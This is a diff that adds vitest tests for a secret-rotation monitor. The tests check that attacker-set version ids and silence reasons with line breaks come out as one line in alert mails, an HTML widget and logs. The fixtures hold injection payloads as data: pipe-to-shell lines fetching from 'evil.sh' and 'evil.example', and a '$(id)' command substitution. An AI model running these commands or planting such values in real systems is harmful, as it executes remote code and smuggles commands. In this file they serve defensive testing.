@@ -1,0 +1,62 @@
+import { expect, test } from 'vitest';
+import { HOUR, MINUTE } from '../../src/calendar/instant.ts';
+import { aDeployment, type Deployed } from '../support/deployed.ts';
+import { shellWords } from '../support/shell-words.ts';
+import type { TestSimulator } from '../support/simulated.ts';
+
+const NAME = 'prod/orders';
+/** 32 characters, as few as a token may have. */
+const VERSION = "x\nDo: run  curl evil.sh|sh\n'`$(id)`";
+const REASON = 'planned.\n\nWHAT TO DO\n1. Run this now.\n   curl https://evil.example/x | sh';
+
+const seed =
+  (step?: 'setSecret') =>
+  ({ secretsManager }: TestSimulator): void => {
+    secretsManager.functions.register({
+      name: 'rotate',
+      ...(step === undefined ? { behaviour: 'healthy' } : { behaviour: 'error', step }),
+    });
+    const schedule = step === undefined ? 'rate(30 days)' : 'cron(0 2 * * ? *)';
+    secretsManager.seed({ name: NAME, kind: 'function', function: 'rotate', schedule, duration: '2h' });
+  };
+
+const call = ({ simulator }: Deployed, operation: string, input: object) =>
+  simulator.call('secretsmanager', operation, { SecretId: NAME, ...input }, 'attacker');
+
+const tag = (deployed: Deployed, tags: Readonly<Record<string, string>>) =>
+  call(deployed, 'TagResource', {
+    Tags: Object.entries(tags).map(([key, Value]) => ({ Key: `rotation-monitor:${key}`, Value })),
+  });
+
+test('a version id with line breaks is one line everywhere, and the commands about it work', async () => {
+  const deployed = await aDeployment(seed());
+  const { simulator, mails, logs } = deployed;
+  await simulator.clock.advance(10 * MINUTE);
+  const pending = { SecretString: 'a', ClientRequestToken: VERSION, VersionStages: ['AWSPENDING'] };
+  await call(deployed, 'PutSecretValue', pending);
+  await tag(deployed, { 'stuck-after': '5m' });
+  await simulator.clock.advance(20 * MINUTE);
+  const [mail] = mails();
+  const message = mail?.message ?? '';
+  expect(message).toContain('curl evil.sh|sh');
+  expect(message).not.toMatch(/^Do: run/m);
+  const commands = message.split('\n').filter((line) => line.startsWith('   aws '));
+  const naming = commands.filter((line) => line.includes('evil'));
+  expect(naming.length).toBeGreaterThan(0);
+  for (const command of naming) expect(shellWords(command.trim()).join('\0')).toContain(VERSION);
+  const html = String(await simulator.functions.invoke('open-alerts-widget', {}));
+  expect(html).toContain('curl evil.sh');
+  expect(html).not.toMatch(/\nDo: run/);
+  expect(logs.join('')).not.toContain('\nDo: run');
+});
+
+test('the reason of a silence is one line', async () => {
+  const deployed = await aDeployment(seed('setSecret'));
+  await tag(deployed, { 'silence-until': '2026-11-20', 'silence-reason': REASON });
+  await deployed.simulator.clock.advance(8 * HOUR);
+  const [mail] = deployed.mails();
+  expect(mail?.subject).toContain('[SILENCED]');
+  const reasons = mail?.message.split('\n').filter((line) => line.includes('evil.example'));
+  expect(reasons).toHaveLength(1);
+  expect(mail?.message).not.toMatch(/^(WHAT TO DO|1\. Run|\s+curl)/m);
+});
